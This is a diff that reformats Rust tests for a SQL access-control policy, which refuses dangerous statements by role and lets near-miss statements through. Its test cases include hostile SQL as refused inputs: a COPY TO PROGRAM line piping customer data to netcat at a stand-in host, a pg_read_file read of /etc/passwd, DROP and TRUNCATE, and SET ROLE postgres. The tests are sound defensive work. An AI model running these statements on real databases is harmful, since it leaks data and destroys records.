@@ -48,19 +48,67 @@ deny_tables = ["public.secrets"]
 fn every_dangerous_rule_refuses_and_its_near_miss_passes() {
     let policy = policy(WRITERS);
     for (rule, refused, near_miss) in [
-        ("dangerous:drop", "DROP TABLE customers", "CREATE TABLE scratch (id int)"),
-        ("dangerous:truncate", "TRUNCATE customers", "DELETE FROM customers WHERE id = 1"),
-        ("dangerous:alter", "ALTER TABLE customers DROP COLUMN email", "CREATE INDEX ON customers (email)"),
-        ("dangerous:grant_revoke", "GRANT ALL ON customers TO PUBLIC", "SELECT * FROM customers"),
-        ("dangerous:delete_without_where", "DELETE FROM customers", "DELETE FROM customers WHERE id = 3"),
-        ("dangerous:update_without_where", "UPDATE customers SET name = 'x'", "UPDATE customers SET name = 'x' WHERE id = 1"),
-        ("dangerous:copy_program", "COPY customers TO PROGRAM 'nc evil 1'", "COPY customers TO STDOUT"),
-        ("dangerous:file_or_program_function", "SELECT pg_read_file('/etc/passwd')", "SELECT upper('/etc/passwd')"),
-        ("dangerous:set_role", "SET ROLE postgres", "SET statement_timeout = 1000"),
-        ("deny_tables", "SELECT * FROM secrets", "SELECT * FROM secrets_public_view"),
+        (
+            "dangerous:drop",
+            "DROP TABLE customers",
+            "CREATE TABLE scratch (id int)",
+        ),
+        (
+            "dangerous:truncate",
+            "TRUNCATE customers",
+            "DELETE FROM customers WHERE id = 1",
+        ),
+        (
+            "dangerous:alter",
+            "ALTER TABLE customers DROP COLUMN email",
+            "CREATE INDEX ON customers (email)",
+        ),
+        (
+            "dangerous:grant_revoke",
+            "GRANT ALL ON customers TO PUBLIC",
+            "SELECT * FROM customers",
+        ),
+        (
+            "dangerous:delete_without_where",
+            "DELETE FROM customers",
+            "DELETE FROM customers WHERE id = 3",
+        ),
+        (
+            "dangerous:update_without_where",
+            "UPDATE customers SET name = 'x'",
+            "UPDATE customers SET name = 'x' WHERE id = 1",
+        ),
+        (
+            "dangerous:copy_program",
+            "COPY customers TO PROGRAM 'nc evil 1'",
+            "COPY customers TO STDOUT",
+        ),
+        (
+            "dangerous:file_or_program_function",
+            "SELECT pg_read_file('/etc/passwd')",
+            "SELECT upper('/etc/passwd')",
+        ),
+        (
+            "dangerous:set_role",
+            "SET ROLE postgres",
+            "SET statement_timeout = 1000",
+        ),
+        (
+            "deny_tables",
+            "SELECT * FROM secrets",
+            "SELECT * FROM secrets_public_view",
+        ),
     ] {
-        assert_eq!(denied_by(&decide(&policy, &["writer"], refused)), Some(format!("writers:{rule}").as_str()), "{refused}");
-        assert_eq!(denied_by(&decide(&policy, &["writer"], near_miss)), None, "{near_miss}");
+        assert_eq!(
+            denied_by(&decide(&policy, &["writer"], refused)),
+            Some(format!("writers:{rule}").as_str()),
+            "{refused}"
+        );
+        assert_eq!(
+            denied_by(&decide(&policy, &["writer"], near_miss)),
+            None,
+            "{near_miss}"
+        );
     }
 }
 
@@ -75,10 +123,17 @@ kinds = ["read", "transaction"]
 read_tables = ["public.*"]
 "#,
     );
-    assert_eq!(denied_by(&decide(&policy, &["reader"], "SELECT * FROM customers")), None);
+    assert_eq!(
+        denied_by(&decide(&policy, &["reader"], "SELECT * FROM customers")),
+        None
+    );
     assert_eq!(denied_by(&decide(&policy, &["reader"], "BEGIN")), None);
     assert_eq!(
-        denied_by(&decide(&policy, &["reader"], "INSERT INTO customers VALUES (9)")),
+        denied_by(&decide(
+            &policy,
+            &["reader"],
+            "INSERT INTO customers VALUES (9)"
+        )),
         Some("readers:kind:write")
     );
     assert_eq!(
@@ -87,7 +142,11 @@ read_tables = ["public.*"]
     );
     // One refused statement refuses the whole request.
     assert_eq!(
-        denied_by(&decide(&policy, &["reader"], "SELECT 1; DELETE FROM customers WHERE id = 1")),
+        denied_by(&decide(
+            &policy,
+            &["reader"],
+            "SELECT 1; DELETE FROM customers WHERE id = 1"
+        )),
         Some("readers:kind:write")
     );
 }
@@ -103,9 +162,20 @@ kinds = ["read", "write"]
 write_tables = ["staging.*"]
 "#,
     );
-    assert_eq!(denied_by(&decide(&policy, &["loader"], "INSERT INTO staging.rows SELECT * FROM public.customers")), None);
     assert_eq!(
-        denied_by(&decide(&policy, &["loader"], "INSERT INTO public.customers VALUES (1)")),
+        denied_by(&decide(
+            &policy,
+            &["loader"],
+            "INSERT INTO staging.rows SELECT * FROM public.customers"
+        )),
+        None
+    );
+    assert_eq!(
+        denied_by(&decide(
+            &policy,
+            &["loader"],
+            "INSERT INTO public.customers VALUES (1)"
+        )),
         Some("loader:write_tables")
     );
 }
@@ -113,7 +183,10 @@ write_tables = ["staging.*"]
 #[test]
 fn unparsed_sql_is_refused_unless_allowed() {
     let strict = policy(WRITERS);
-    assert_eq!(denied_by(&decide(&strict, &["writer"], "SELEKT 1")), Some("writers:unparsed"));
+    assert_eq!(
+        denied_by(&decide(&strict, &["writer"], "SELEKT 1")),
+        Some("writers:unparsed")
+    );
     let lenient = policy(
         r#"
 [[grant]]
@@ -128,9 +201,15 @@ allow_unparsed = true
 #[test]
 fn without_a_matching_grant_nothing_is_allowed() {
     let none = policy("");
-    assert_eq!(denied_by(&decide(&none, &["writer"], "SELECT 1")), Some("no-grant"));
+    assert_eq!(
+        denied_by(&decide(&none, &["writer"], "SELECT 1")),
+        Some("no-grant")
+    );
     let writers = policy(WRITERS);
-    assert_eq!(denied_by(&decide(&writers, &["someone-else"], "SELECT 1")), Some("no-grant"));
+    assert_eq!(
+        denied_by(&decide(&writers, &["someone-else"], "SELECT 1")),
+        Some("no-grant")
+    );
 }
 
 #[test]
@@ -149,7 +228,14 @@ allow_dangerous = ["delete_without_where"]
 write_tables = ["public.scratch"]
 "#,
     );
-    assert_eq!(denied_by(&decide(&policy, &["reader", "janitor"], "DELETE FROM scratch")), None);
+    assert_eq!(
+        denied_by(&decide(
+            &policy,
+            &["reader", "janitor"],
+            "DELETE FROM scratch"
+        )),
+        None
+    );
     assert_eq!(
         denied_by(&decide(&policy, &["reader"], "DELETE FROM scratch")),
         Some("readers:kind:write")
